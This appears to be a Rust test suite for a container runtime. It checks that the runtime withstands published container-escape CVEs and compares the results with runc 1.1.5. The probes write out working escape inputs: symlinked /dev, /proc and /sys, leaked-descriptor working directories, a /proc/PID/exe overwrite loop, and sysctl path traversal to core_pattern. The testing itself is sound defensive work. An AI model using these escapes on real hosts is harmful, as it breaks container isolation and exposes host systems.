//! Published escapes, tried against `cutover runtime` and against Debian's runc with the same bundle. Each probe looks
//! for a canary; where runc is vulnerable it must succeed there, which proves that it bites.
//!
//! The table with the results is docs/attacks.md. Probes for what only this runtime's own lower half can show (races,
//! `/proc/PID/exe`, user files) are in `cutover-runtime/tests/it/escape/`.

use std::collections::BTreeMap;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::json;

use crate::harness::binary;
use crate::oci_front::Bundle;

/// A directory of the host's that no attack may change or read.
struct Canary {
    dir: tempfile::TempDir,
    before: BTreeMap<PathBuf, String>,
}

impl Canary {
    fn new() -> Self {
        let dir = tempfile::Builder::new().prefix("canary").tempdir().unwrap();
        for name in ["secret", "null", "self/attr", "sys/x"] {
            let path = dir.path().join(name);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, "canary").unwrap();
        }
        let before = listing(dir.path());
        Self { dir, before }
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }

    fn is_alive(&self) -> bool {
        listing(self.path()) == self.before
    }
}

fn listing(dir: &Path) -> BTreeMap<PathBuf, String> {
    use std::os::unix::fs::MetadataExt;
    let mut found = BTreeMap::new();
    for entry in std::fs::read_dir(dir).unwrap().map(Result::unwrap) {
        let (path, meta) = (entry.path(), entry.metadata().unwrap());
        if meta.is_dir() {
            found.extend(listing(&path));
        }
        let text =
            if meta.is_file() { std::fs::read_to_string(&path).unwrap() } else { String::new() };
        found.insert(path, format!("{:o} {} {text}", meta.mode(), meta.uid()));
    }
    found
}

/// Whether an attack got through.
type Attack = fn(&mut Bundle) -> bool;

/// Debian's runc, the version whose holes are known.
fn runc() -> Option<PathBuf> {
    let path =
        ["/usr/sbin/runc", "/usr/bin/runc"].iter().map(PathBuf::from).find(|p| p.exists())?;
    let version = Command::new(&path).arg("--version").output().ok()?;
    String::from_utf8_lossy(&version.stdout).starts_with("runc version 1.1.5").then_some(path)
}

/// Ours must hold; runc's verdict is as recorded.
#[track_caller]
fn probe(attack: Attack, runc_falls: bool) {
    let mut ours = Bundle::new();
    assert!(!attack(&mut ours), "the attack got through cutover");
    let Some(runc) = runc() else {
        eprintln!("SKIPPED: no runc 1.1.5 to try the probe on");
        return;
    };
    let mut theirs = Bundle::new();
    theirs.runtime = runc;
    assert_eq!(attack(&mut theirs), runc_falls, "runc 1.1.5");
}

/// CVE-2026-41579, and crun's 2026-88264: `/dev` of the image is a symlink, links and nodes are made through it.
#[test]
fn dev_is_a_symlink() {
    probe(
        |bundle| {
            let canary = Canary::new();
            std::fs::remove_dir(bundle.root("dev")).unwrap();
            symlink(canary.path(), bundle.root("dev")).unwrap();
            let mounts = bundle.config["mounts"].as_array_mut().unwrap();
            mounts.retain(|mount| !mount["destination"].as_str().unwrap().starts_with("/dev"));
            bundle.script("true");
            bundle.says(&["run", "x"]);
            !canary.is_alive()
        },
        true,
    );
}

/// CVE-2025-31133: masks are binds of `/dev/null`, which the attacker made a symlink to a file of its choice.
#[test]
fn masks_by_a_null_device_of_the_image() {
    probe(
        |bundle| {
            let dev = bundle.path("dev");
            std::fs::create_dir_all(dev.join("pts")).unwrap();
            symlink("/etc/attacker", dev.join("null")).unwrap();
            std::fs::write(bundle.root("etc/attacker"), "attacker").unwrap();
            std::fs::write(bundle.root("etc/masked"), "host").unwrap();
            let mounts = bundle.config["mounts"].as_array_mut().unwrap();
            mounts.retain(|mount| !mount["destination"].as_str().unwrap().starts_with("/dev"));
            mounts.push(json!({"destination": "/dev", "type": "bind", "source": dev,
                "options": ["rbind", "rw"]}));
            bundle.config["linux"]["maskedPaths"] = json!(["/etc/masked"]);
            bundle.script("cat /etc/masked");
            bundle.says(&["run", "x"]).1 == "attacker"
        },
        true,
    );
}

/// CVE-2024-21626: the working directory is a descriptor of the host's that was left open. Debian patched it.
#[test]
fn working_directories_behind_leaked_descriptors() {
    probe(
        |bundle| {
            let canary = Canary::new();
            (3..16).any(|number| {
                bundle.config["process"]["cwd"] = format!("/proc/self/fd/{number}").into();
                let path = canary.path().join("secret");
                bundle.script(&format!(
                    "cat ../../../..{} ../../../../../../..{0} 2>/dev/null",
                    path.display()
                ));
                let (_, out, _) = bundle.says(&["run", "x"]);
                out.contains("canary")
            }) || !canary.is_alive()
        },
        false,
    );
}

/// The same in `exec`, and what is open in the program, whoever left it open.
#[test]
fn descriptors_of_the_caller() {
    probe(
        |bundle| {
            bundle.script("sleep 600");
            let created = bundle
                .command(&["run", "-d", "x"])
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::null())
                .status()
                .unwrap();
            assert!(created.success());
            let inside = (3..12).any(|number| {
                let cwd = format!("/proc/self/fd/{number}");
                let (code, _, _) =
                    bundle.says(&["exec", "--cwd", &cwd, "x", "cat", "etc/hostname"]);
                code == 0
            });
            let (_, open, _) = bundle.says(&["exec", "x", "ls", "/proc/self/fd"]);
            bundle.says(&["delete", "-f", "x"]);
            // 3 is the directory that `ls` reads.
            inside || open != "0\n1\n2\n3"
        },
        false,
    );
}

/// CVE-2019-19921, 2023-27561, 2023-28642: `/proc` or `/sys` of the image is a symlink.
#[test]
fn proc_or_sys_is_a_symlink() {
    probe(
        |bundle| {
            ["proc", "sys"].iter().any(|name| {
                let canary = Canary::new();
                let place = bundle.root(name);
                std::fs::remove_dir(&place).unwrap();
                symlink(canary.path(), &place).unwrap();
                bundle.script("true");
                let (code, _, _) = bundle.says(&["run", "x"]);
                std::fs::remove_file(&place).unwrap();
                std::fs::create_dir(&place).unwrap();
                code == 0 || !canary.is_alive()
            })
        },
        false,
    );
}

/// CVE-2019-16884: a volume over `/proc`, straight or through a symlink of the image.
#[test]
fn volumes_over_proc() {
    probe(
        |bundle| {
            std::fs::create_dir_all(bundle.path("fake/self")).unwrap();
            symlink("/proc", bundle.root("data")).unwrap();
            let mounts = bundle.config["mounts"].clone();
            ["/proc", "/proc/self", "/proc/sys", "/data", "/data/self"].iter().any(|target| {
                bundle.config["mounts"] = mounts.clone();
                bundle.config["mounts"].as_array_mut().unwrap().push(json!({
                    "destination": target, "type": "bind", "source": "fake", "options": ["bind"]}));
                bundle.script("true");
                bundle.says(&["run", "x"]).0 == 0
            })
        },
        false,
    );
}

/// Volumes, devices and the working directory through symlinks that lead out of the root.
#[test]
fn targets_that_lead_out() {
    probe(
        |bundle| {
            let canary = Canary::new();
            let out = format!("../../../../../../../..{}", canary.path().display());
            symlink(&out, bundle.root("out")).unwrap();
            std::fs::create_dir(bundle.path("volume")).unwrap();
            bundle.config["mounts"].as_array_mut().unwrap().push(json!({
                "destination": "/out/made", "type": "bind", "source": "volume", "options": ["bind"]}));
            bundle.config["linux"]["devices"] = json!([
                {"path": "/out/node", "type": "c", "major": 1, "minor": 3},
                {"path": "/../../../../out/other", "type": "c", "major": 1, "minor": 3}]);
            bundle.config["process"]["cwd"] = "/out/cwd/deep".into();
            bundle.script("true");
            bundle.says(&["run", "x"]);
            !canary.is_alive()
        },
        false,
    );
}

/// CVE-2025-52565 and 2026-88265: what lies at `/dev/pts`, `/dev/ptmx` and `/dev/console` of the image.
#[test]
fn consoles_of_the_image() {
    probe(
        |bundle| {
            let canary = Canary::new();
            for name in ["console", "ptmx", "null", "fd", "tty"] {
                symlink(canary.path().join("secret"), bundle.root("dev").join(name)).unwrap();
            }
            symlink(canary.path(), bundle.root("dev/pts")).unwrap();
            let mounts = bundle.config["mounts"].as_array_mut().unwrap();
            mounts.retain(|mount| !mount["destination"].as_str().unwrap().starts_with("/dev"));
            bundle.config["process"]["terminal"] = true.into();
            bundle.script("echo overwritten > /dev/console; echo overwritten > /dev/null");
            bundle.says(&["run", "x"]);
            !canary.is_alive()
        },
        false,
    );
}

/// CVE-2025-52881's prize: a write that was meant for a setting of the container reaches one of the host.
#[test]
fn settings_of_the_host() {
    probe(
        |bundle| {
            ["kernel.core_pattern", "net.../kernel/core_pattern", "net/../kernel/core_pattern"]
                .iter()
                .any(|key| {
                    let value = std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap();
                    bundle.config["linux"]["sysctl"] = json!({ *key: value.trim() });
                    bundle.script("true");
                    bundle.says(&["run", "x"]).0 == 0
                })
        },
        false,
    );
}

/// CVE-2024-40635: a user number that wraps to root.
#[test]
fn user_numbers_that_wrap() {
    probe(
        |bundle| {
            [4_294_967_296_u64, 18_446_744_073_709_551_615].iter().any(|uid| {
                bundle.config["process"]["user"] = json!({"uid": uid, "gid": 0});
                bundle.script("id -u");
                bundle.says(&["run", "x"]).1 == "0"
            })
        },
        false,
    );
}

/// Names that are paths.
#[test]
fn names_that_are_paths() {
    probe(
        |bundle| {
            let canary = Canary::new();
            let out = format!("../../../../../../..{}/made", canary.path().display());
            bundle.script("true");
            for id in [out.as_str(), "..", ".", "a/../../b"] {
                bundle.says(&["run", id]);
                bundle.says(&["delete", "-f", id]);
            }
            !canary.is_alive()
        },
        false,
    );
}

/// CVE-2022-29162, 2022-24769: capabilities that survive a change of user.
#[test]
fn inheritable_capabilities() {
    probe(
        |bundle| {
            bundle.script("sleep 600");
            let mut started = bundle.command(&["run", "-d", "x"]);
            let null = std::process::Stdio::null;
            assert!(started.stdout(null()).stderr(null()).status().unwrap().success());
            let script = "grep -E 'Cap(Inh|Amb)' /proc/self/status | grep -vc 0000000000000000";
            let args = ["exec", "--cap", "CAP_NET_RAW", "x", "sh", "-c", script];
            let (_, out, _) = bundle.says(&args);
            bundle.says(&["delete", "-f", "x"]);
            out != "0"
        },
        false,
    );
}

/// CVE-2019-5736: the runtime's own executable is written through `/proc/PID/exe` while it joins.
#[test]
fn the_executable_is_out_of_reach() {
    let mut bundle = Bundle::new();
    let before = std::fs::metadata(binary()).unwrap();
    let copy = bundle.path("victim");
    std::fs::copy(binary(), &copy).unwrap();
    std::fs::remove_file(bundle.path("cutover-runtime")).unwrap();
    let victim = bundle.path("cutover-runtime");
    std::fs::rename(&copy, &victim).unwrap();
    let bytes = std::fs::read(&victim).unwrap();
    // The program is the runtime itself; and a loop tries to write to what any other process runs.
    bundle.config["process"]["args"] = json!(["/proc/self/exe", "--version"]);
    bundle.says(&["run", "x"]);
    bundle.script(
        "echo up > /tmp/up; while :; do for p in /proc/[0-9]*; do \
         case $(readlink $p/exe) in /bin/busybox|'') ;; *) echo caught >> /tmp/caught; \
         echo overwritten > $p/exe;; esac; done; done 2>/dev/null",
    );
    let null = std::process::Stdio::null;
    let mut started = bundle.command(&["run", "-d", "x"]);
    assert!(started.stdout(null()).stderr(null()).status().unwrap().success());
    crate::harness::eventually("the attacker", || bundle.root("tmp/up").exists());
    for _ in 0..20 {
        assert_eq!(bundle.says(&["exec", "x", "true"]).0, 0);
        bundle.says(&["exec", "x", "/proc/self/exe", "--version"]);
    }
    bundle.ok(&["delete", "-f", "x"]);
    assert!(std::fs::read(&victim).unwrap() == bytes, "the executable was overwritten");
    assert_eq!(
        std::fs::metadata(binary()).unwrap().modified().unwrap(),
        before.modified().unwrap()
    );
}

/// CVE-2020-15257: control sockets that a container with the host's network could reach.
#[test]
fn no_abstract_sockets() {
    let mut bundle = Bundle::new();
    let namespaces = bundle.config["linux"]["namespaces"].as_array_mut().unwrap();
    namespaces.retain(|namespace| namespace["type"] != "network");
    let mounts = bundle.config["mounts"].as_array_mut().unwrap();
    mounts.retain(|mount| !mount["destination"].as_str().unwrap().starts_with("/sys"));
    bundle.script("grep -c '@.*\\(cutover\\|start\\.sock\\)' /proc/net/unix");
    assert_eq!(bundle.says(&["run", "x"]).1, "0");
}
